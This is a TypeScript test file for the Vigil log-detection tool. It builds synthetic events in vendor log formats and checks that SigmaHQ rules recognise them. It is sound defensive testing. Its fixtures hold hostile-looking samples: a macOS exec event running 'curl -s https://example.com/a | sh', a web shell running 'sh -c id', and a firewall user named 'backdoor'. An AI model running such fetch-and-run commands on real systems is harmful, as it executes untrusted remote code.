import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Detection, type DetectionSetup, hunt, loadDetectionSetup } from '../../src/detect/index.js';
import { contentPath, hasContent } from '../helpers/content.js';

/**
 * Sources with no public sample under a licence the project accepts (see the datasets README):
 * events written here from each product's documented export format (a JSON record, or a syslog
 * line as the device sends it), with the values a SigmaHQ rule for that source looks for. The
 * README's table names these sources. A source SigmaHQ has no rule for names none: it must be
 * recognized, and what Vigil's own identity pack reads of it is tested in test/rules.
 */
const SAMPLES: { name: string; source: string; rule?: string; event: object | string; host?: string }[] = [
  {
    // Okta System Log API, LogEvent object.
    name: 'okta-system-log.jsonl',
    host: 'okta/example.com',
    source: 'okta/okta',
    rule: 'Okta User Account Locked Out',
    event: {
      uuid: '4f1c2c3a-1111-11ef-9b0a-1f2e3d4c5b6a',
      published: '2024-05-01T10:00:00.000Z',
      eventType: 'user.account.lock',
      version: '0',
      severity: 'WARN',
      displayMessage: 'Max sign in attempts exceeded',
      actor: { id: '00u1abcd', type: 'User', alternateId: 'alice@example.com', displayName: 'Alice' },
      client: { ipAddress: '203.0.113.7', userAgent: { rawUserAgent: 'curl/8.5.0' } },
      outcome: { result: 'FAILURE', reason: 'LOCKED_OUT' },
      target: [{ id: '00u1abcd', type: 'User', alternateId: 'alice@example.com', displayName: 'Alice' }],
    },
  },
  {
    // Entra ID sign-in log, Azure Monitor diagnostic settings export (category SignInLogs).
    name: 'entra-signin.json',
    host: 'entra/00000000-0000-0000-0000-000000000001',
    source: 'azure/signinlogs',
    rule: 'Login to Disabled Account',
    event: {
      time: '2024-05-01T10:00:00.0000000Z',
      resourceId: '/tenants/00000000-0000-0000-0000-000000000001/providers/Microsoft.aadiam',
      operationName: 'Sign-in activity',
      category: 'SignInLogs',
      resultType: '50057',
      resultDescription: 'User account is disabled. The account has been disabled by an administrator.',
      callerIpAddress: '203.0.113.7',
      properties: {
        userPrincipalName: 'alice@example.com',
        appDisplayName: 'Azure Portal',
        status: { errorCode: 50057, failureReason: 'User account is disabled.' },
      },
    },
  },
  {
    // Azure Activity log, diagnostic settings export (category Administrative).
    name: 'azure-activity.json',
    host: 'azure/00000000-0000-0000-0000-000000000002',
    source: 'azure/activitylogs',
    rule: 'Azure Virtual Network Modified or Deleted',
    event: {
      time: '2024-05-01T10:00:00Z',
      resourceId:
        '/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000002/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.NETWORK/VIRTUALNETWORKS/VNET1',
      operationName: 'MICROSOFT.NETWORK/VIRTUALNETWORKS/DELETE',
      category: 'Administrative',
      resultType: 'Success',
      callerIpAddress: '203.0.113.7',
      properties: { statusCode: 'OK' },
    },
  },
  {
    // Microsoft 365 unified audit log, Office 365 Management Activity API record.
    name: 'm365-audit.json',
    host: 'm365/00000000-0000-0000-0000-000000000001',
    source: 'm365/audit',
    rule: 'Disabling Multi Factor Authentication',
    event: {
      CreationTime: '2024-05-01T10:00:00',
      Id: '5b0e5f6e-2222-4a1b-9c3d-1a2b3c4d5e6f',
      Operation: 'Disable Strong Authentication.',
      OrganizationId: '00000000-0000-0000-0000-000000000001',
      RecordType: 8,
      ResultStatus: 'Success',
      UserType: 2,
      Workload: 'AzureActiveDirectory',
      ObjectId: 'bob@example.com',
      UserId: 'admin@example.com',
    },
  },
  {
    // Google Workspace admin audit log as Cloud Logging keeps it (LogEntry with an AuditLog payload).
    name: 'workspace-admin.json',
    host: 'gcp/organizations/123456789',
    source: 'gcp/google_workspace.admin',
    rule: 'Google Workspace User Granted Admin Privileges',
    event: {
      logName: 'organizations/123456789/logs/cloudaudit.googleapis.com%2Factivity',
      timestamp: '2024-05-01T10:00:00Z',
      resource: { type: 'audited_resource', labels: { service: 'admin.googleapis.com' } },
      protoPayload: {
        '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
        serviceName: 'admin.googleapis.com',
        methodName: 'google.admin.AdminService.grantAdminPrivilege',
        authenticationInfo: { principalEmail: 'admin@example.com' },
        metadata: {
          event: [
            {
              eventType: 'DELEGATED_ADMIN_SETTINGS',
              eventName: 'GRANT_ADMIN_PRIVILEGE',
              parameter: [{ name: 'USER_EMAIL', value: 'bob@example.com', type: 'TYPE_STRING' }],
            },
          ],
        },
      },
    },
  },
  {
    // Kubernetes API server audit log (audit.k8s.io/v1 Event, as the log backend writes it).
    name: 'kube-audit.jsonl',
    source: 'kubernetes/audit',
    rule: 'Potential Remote Command Execution In Pod Container',
    event: {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'Request',
      auditID: '7d3c1b2a-3333-4c5d-8e9f-0a1b2c3d4e5f',
      stage: 'ResponseStarted',
      requestURI: '/api/v1/namespaces/default/pods/web-0/exec?command=sh&container=web&stdin=true&tty=true',
      verb: 'create',
      user: { username: 'alice@example.com', groups: ['system:authenticated'] },
      sourceIPs: ['203.0.113.7'],
      userAgent: 'kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f',
      objectRef: {
        resource: 'pods',
        namespace: 'default',
        name: 'web-0',
        apiVersion: 'v1',
        subresource: 'exec',
      },
      responseStatus: { metadata: {}, code: 101 },
      requestReceivedTimestamp: '2024-05-01T10:00:00.000000Z',
      stageTimestamp: '2024-05-01T10:00:00.100000Z',
    },
  },
  {
    // systemd journal, `journalctl -o json` (one entry per line).
    name: 'journal.json',
    source: 'linux/sshd',
    rule: 'Suspicious OpenSSH Daemon Error',
    event: {
      __REALTIME_TIMESTAMP: '1714557600000000',
      _HOSTNAME: 'web1',
      SYSLOG_IDENTIFIER: 'sshd',
      SYSLOG_FACILITY: '4',
      PRIORITY: '3',
      _PID: '4242',
      _SYSTEMD_UNIT: 'ssh.service',
      MESSAGE: 'error: Corrupted MAC on input. [preauth]',
    },
  },
  {
    // FortiGate event log by syslog (FortiOS Log Message Reference, 44547 object attribute configured).
    name: 'fortigate-event.log',
    source: 'fortigate/event',
    rule: 'FortiGate - New Local User Created',
    event:
      '<189>date=2024-05-01 time=10:00:00 devname="FGT-EDGE" devid="FG100FTK20000001" eventtime=1714557600000000000 tz="+0000" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(203.0.113.7)" action="Add" cfgtid=1234 cfgpath="user.local" cfgobj="backdoor" cfgattr="type[password]passwd[*]" msg="Add user.local backdoor"',
  },
  {
    // FortiGate traffic log by syslog (logid 0000000013, forward traffic).
    name: 'fortigate-traffic.log',
    source: 'fortigate/traffic',
    rule: 'Cleartext Protocol Usage',
    event:
      '<189>date=2024-05-01 time=10:00:00 devname="FGT-EDGE" devid="FG100FTK20000001" eventtime=1714557600000000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.0.0.5 srcport=50122 srcintf="internal" dstip=198.51.100.23 dstport=23 dstintf="wan1" sessionid=8812 proto=6 action="accept" policyid=4 service="TELNET" duration=12 sentbyte=880 rcvdbyte=1460',
  },
  {
    // PAN-OS GLOBALPROTECT log, CSV syslog (PAN-OS 10.1 field order), BSD header.
    name: 'panos-globalprotect.log',
    source: 'paloalto/globalprotect',
    event:
      '<14>May  1 10:00:00 PA-VM 1,2024/05/01 10:00:00,013201001234,GLOBALPROTECT,0,2817,2024/05/01 10:00:00,vsys1,gateway-auth,login,LDAP,,alice,US,LAPTOP-7,203.0.113.5,,0.0.0.0,,,,6.2.1,Windows,"Microsoft Windows 11 Pro , 64-bit",1,,Authentication failed: Invalid username or password,,failure,Paris,0,on-demand,0,GP-Portal,7000001,0x8000000000000000,2024-05-01T10:00:00.000+00:00,,,,,,0,0,0,0,,PA-VM,1,',
  },
  {
    // PAN-OS SYSTEM log of GlobalProtect, as releases before 9.1 log its logins.
    name: 'panos-system-gp.log',
    source: 'paloalto/globalprotect',
    event:
      '<14>May  1 10:00:00 PA-VM 1,2024/05/01 10:00:00,013201001234,SYSTEM,globalprotect,0,2024/05/01 10:00:00,,globalprotectgateway-auth-fail,GP-Gateway-N,0,0,general,informational,"GlobalProtect gateway user authentication failed. Login from: 203.0.113.5, Source region: US, User name: alice, Client OS version: Microsoft Windows 11 Pro , 64-bit, Reason: Authentication failed: Invalid username or password, Auth type: profile.",7000002,0x0,0,0,0,0,,PA-VM',
  },
  {
    // PAN-OS TRAFFIC log, CSV syslog.
    name: 'panos-traffic.log',
    source: 'paloalto/traffic',
    event:
      '<14>May  1 10:00:00 PA-VM 1,2024/05/01 10:00:00,013201001234,TRAFFIC,end,2817,2024/05/01 10:00:00,10.0.0.5,198.51.100.23,203.0.113.1,198.51.100.23,allow-out,,,telnet,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,,8812,1,50122,23,40122,23,0x400000,tcp,allow,2340,880,1460,20,2024/05/01 09:59:48,12,any,,7000003,0x0,10.0.0.0-10.255.255.255,US,,10,10,tcp-fin',
  },
  {
    // Cisco ASA command accounting (ASA Series Syslog Messages, 111010).
    name: 'asa-command.log',
    source: 'cisco/aaa',
    rule: 'Cisco Clear Logs',
    event:
      "<165>May 01 2024 10:00:00 asa-edge : %ASA-5-111010: User 'admin', running 'CLI' from IP 203.0.113.7, executed 'clear logging buffer'",
  },
  {
    // Cisco ASA AnyConnect authentication (113005).
    name: 'asa-auth.log',
    source: 'cisco/asa',
    event:
      '<166>May 01 2024 10:00:00 asa-edge : %ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.10 : user = alice : user IP = 203.0.113.5',
  },
  {
    // Auditbeat's auditd module (Elastic Agent's Auditd Manager writes the same document): a web
    // server's shell run by execve, the audit rule's key in `tags`.
    name: 'auditbeat-execve.json',
    host: 'web1',
    source: 'linux/auditd',
    rule: 'Webshell Remote Command Execution',
    event: auditbeatExecve(),
  },
  {
    // Auditbeat's auditd module: a user-space SERVICE_STOP record (no syscall).
    name: 'auditbeat-service-stop.json',
    source: 'linux/auditd',
    rule: 'Disable System Firewall',
    event: {
      '@timestamp': '2024-05-01T10:00:01.250Z',
      event: { module: 'auditd', category: ['process'], action: 'stopped-service', outcome: 'success' },
      service: { type: 'auditd' },
      host: { name: 'web1' },
      auditd: {
        message_type: 'service_stop',
        sequence: 8817906,
        result: 'success',
        session: 'unset',
        summary: {
          actor: { primary: 'unset', secondary: 'root' },
          object: { type: 'service', primary: 'firewalld' },
        },
        data: {
          unit: 'firewalld',
          comm: 'systemd',
          exe: '/usr/lib/systemd/systemd',
          hostname: '?',
          addr: '?',
          terminal: '?',
        },
      },
      user: { id: '0', name: 'root', audit: { id: '4294967295' } },
      process: { pid: 1 },
    },
  },
  {
    // Filebeat's auditd module: one audit.log record, its pairs under `auditd.log`.
    name: 'filebeat-auditd-path.json',
    source: 'linux/auditd',
    rule: 'Auditing Configuration Changes on Linux Host',
    event: {
      '@timestamp': '2024-05-01T10:00:02.000Z',
      event: { module: 'auditd', dataset: 'auditd.log', action: 'path' },
      auditd: {
        log: {
          record_type: 'PATH',
          sequence: 8817907,
          item: '0',
          name: '/etc/audit/rules.d/audit.rules',
          nametype: 'NORMAL',
          inode: '1234',
        },
      },
    },
  },
  {
    // eslogger exec (Endpoint Security `es_message_t` as JSON): Word's forked child runs a shell.
    name: 'eslogger-exec.json',
    source: 'macos/process_creation',
    rule: 'Suspicious Microsoft Office Child Process - MacOS',
    event: esloggerExec('/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word', '/bin/zsh', [
      'zsh',
      '-c',
      'curl -s https://example.com/a | sh',
    ]),
  },
  {
    name: 'eslogger-exec-csrutil.json',
    source: 'macos/process_creation',
    rule: 'System Integrity Protection (SIP) Enumeration',
    event: esloggerExec('/bin/zsh', '/usr/bin/csrutil', ['csrutil', 'status']),
  },
  {
    // eslogger create of a new file: its folder and name in `destination.new_path`.
    name: 'eslogger-create.json',
    source: 'macos/file_event',
    rule: 'Startup Item File Created - MacOS',
    event: {
      schema_version: 1,
      version: 7,
      time: '2024-05-01T10:00:03.123456789Z',
      mach_time: 123456789012,
      event_type: 13,
      seq_num: 12,
      global_seq_num: 345,
      thread: { thread_id: 4242 },
      process: esProcess('/usr/bin/sudo', 701, 700),
      event: {
        create: {
          destination_type: 1,
          destination: {
            new_path: {
              dir: { path: '/Library/StartupItems/Updater' },
              filename: 'StartupParameters.plist',
              mode: 420,
            },
          },
        },
      },
      action_type: 1,
      action: { result: { result_type: 0, result: { auth: 0 } } },
    },
  },
];

function auditbeatExecve(): object {
  return {
    '@timestamp': '2024-05-01T10:00:00.123Z',
    event: { module: 'auditd', category: ['process'], action: 'executed', outcome: 'success' },
    service: { type: 'auditd' },
    host: { name: 'web1' },
    auditd: {
      message_type: 'syscall',
      sequence: 8817905,
      result: 'success',
      session: 'unset',
      data: {
        syscall: 'execve',
        arch: 'x86_64',
        exit: '0',
        a0: '55d1c4e0a8f0',
        a1: '55d1c4e0b1a0',
        a2: '55d1c4e0b1c8',
        a3: '8',
        tty: '(none)',
      },
      paths: [
        {
          name: '/bin/sh',
          nametype: 'NORMAL',
          inode: '131078',
          mode: '0100755',
          ouid: '0',
          ogid: '0',
          item: '0',
        },
        { name: '/lib64/ld-linux-x86-64.so.2', nametype: 'NORMAL', item: '1' },
      ],
    },
    user: { id: '33', name: 'www-data', effective: { id: '33' }, audit: { id: '4294967295' } },
    process: {
      pid: 31337,
      ppid: 812,
      name: 'sh',
      executable: '/usr/bin/dash',
      working_directory: '/var/www/html',
      title: 'sh -c id',
      args: ['sh', '-c', 'id'],
    },
    tags: ['detect_execve_www'],
  };
}

/** An Endpoint Security process as eslogger writes it. */
function esProcess(path: string, pid: number, ppid: number): object {
  return {
    audit_token: { pid, euid: 501, ruid: 501, egid: 20, rgid: 20, pidversion: 1, asid: 100001, auid: 501 },
    ppid,
    original_ppid: ppid,
    group_id: pid,
    session_id: 100001,
    is_platform_binary: false,
    is_es_client: false,
    signing_id: 'com.example',
    team_id: null,
    executable: { path, path_truncated: false },
    start_time: '2024-05-01T09:59:59.000000Z',
  };
}

function esloggerExec(parent: string, image: string, args: string[]): object {
  return {
    schema_version: 1,
    version: 7,
    time: '2024-05-01T10:00:02.500000000Z',
    mach_time: 123456789000,
    event_type: 9,
    seq_num: 10,
    global_seq_num: 300,
    thread: { thread_id: 4241 },
    process: esProcess(parent, 900, 1),
    event: {
      exec: {
        target: esProcess(image, 900, 1),
        args,
        cwd: { path: '/Users/alice' },
        script: null,
        dyld_exec_path: image,
      },
    },
    action_type: 1,
    action: { result: { result_type: 0, result: { auth: 0 } } },
  };
}

describe.skipIf(!hasContent)('sources without a public sample, from their documented formats', () => {
  let setup: DetectionSetup;
  let dir: string;
  const options = () => ({
    rules: ['cloud', 'identity', 'application', 'linux', 'network', 'macos'].map((folder) =>
      contentPath('sigma', 'rules', folder),
    ),
  });

  beforeAll(async () => {
    setup = await loadDetectionSetup(options());
    dir = await mkdtemp(join(tmpdir(), 'vigil-documented-'));
    for (const sample of SAMPLES) {
      const text = typeof sample.event === 'string' ? `${sample.event}\n` : JSON.stringify(sample.event);
      await writeFile(join(dir, sample.name), text);
    }
  }, 60_000);

  it('sources SigmaHQ has no rules for are recognized: message traces, message tracking, the unified log', async () => {
    const fixture = (name: string) => join(import.meta.dirname, '..', 'fixtures', 'logs', name);
    const trace = {
      Organization: 'contoso.onmicrosoft.com',
      MessageId: '<CA+abc123@mail.fabrikam.example>',
      Received: '/Date(1714557601000)/',
      SenderAddress: 'mallory@fabrikam.example',
      RecipientAddress: 'alice@contoso.com',
      Subject: 'Invoice',
      Status: 'Delivered',
      ToIP: null,
      FromIP: '203.0.113.7',
      Size: 48213,
      MessageTraceId: '5c1e2f3a-0000-4b1c-8d2e-08dc69a1b2c3',
      Index: 0,
    };
    const files: [string, string, number][] = [
      [fixture('MSGTRK2024050110-1.LOG'), 'exchange/message_tracking', 5],
      [fixture('message-trace.csv'), 'm365/message_trace', 4],
      [fixture('auditbeat.ndjson'), 'linux/auditd', 6],
    ];
    const written: [string, object, string, number][] = [
      // The Office 365 reporting web service (OData v2), as its MessageTrace report downloads.
      [
        'reporting-trace.json',
        { d: { results: [{ __metadata: { type: 'TenantReporting.MessageTrace' }, ...trace }] } },
        'm365/message_trace',
        1,
      ],
      // Microsoft Graph's message traces (OData v4).
      [
        'graph-trace.json',
        {
          '@odata.context': 'https://graph.microsoft.com/beta/$metadata#admin/exchange/tracing/messageTraces',
          value: [
            {
              id: '5c1e2f3a-0000-4b1c-8d2e-08dc69a1b2c3',
              senderAddress: 'mallory@fabrikam.example',
              recipientAddress: 'alice@contoso.com',
              receivedDateTime: '2024-05-01T10:00:01Z',
              status: 'delivered',
              subject: 'Invoice',
              fromIP: '203.0.113.7',
              size: 48213,
            },
          ],
        },
        'm365/message_trace',
        1,
      ],
      [
        'unified-log.json',
        [
          {
            eventMessage: 'Authentication failed',
            eventType: 'logEvent',
            subsystem: 'com.apple.opendirectoryd',
            processImagePath: '/usr/libexec/opendirectoryd',
            timestamp: '2024-05-01 12:00:00.123456+0200',
            processID: 123,
          },
        ],
        'macos/unifiedlog',
        1,
      ],
      [
        'eslogger-write.json',
        {
          event_type: 33,
          time: '2024-05-01T10:00:00Z',
          process: esProcess('/usr/bin/vim', 800, 700),
          event: { write: { target: { path: '/Users/alice/.zshrc' } } },
        },
        'macos/file_event',
        1,
      ],
    ];
    for (const [name, content] of written.map(([n, c]) => [n, c] as const))
      await writeFile(join(dir, name), JSON.stringify(content));
    for (const [path, source, count] of [
      ...files,
      ...written.map(([name, , source, count]) => [join(dir, name), source, count] as const),
    ]) {
      const summary = await hunt([path], { setup: options(), loaded: setup, onDetection: () => {} });
      expect(summary.bySource, path).toEqual([{ key: source, count }]);
    }
    const esf = await hunt([fixture('eslogger.ndjson')], {
      setup: options(),
      loaded: setup,
      onDetection: () => {},
    });
    expect(esf.bySource).toEqual([
      { key: 'macos/process_creation', count: 3 },
      { key: 'macos/file_event', count: 2 },
    ]);
  });

  it.each(SAMPLES.map((s) => [s.name, s.source, s.rule ?? 'no SigmaHQ rule', s] as const))(
    '%s is recognized as %s and "%s" fires',
    async (_name, source, rule, sample) => {
      const detections: Detection[] = [];
      const summary = await hunt([join(dir, sample.name)], {
        setup: options(),
        loaded: setup,
        onDetection: (d) => detections.push(d),
      });
      expect(summary.bySource).toEqual([{ key: source, count: 1 }]);
      if (!sample.rule) {
        expect(detections).toEqual([]);
        return;
      }
      expect(detections.map((d) => d.rule.title)).toContain(rule);
      // Cloud services name no machine: the account or tenant stands for one.
      if (sample.host) expect(detections.find((d) => d.rule.title === rule)!.host).toBe(sample.host);
    },
  );
});
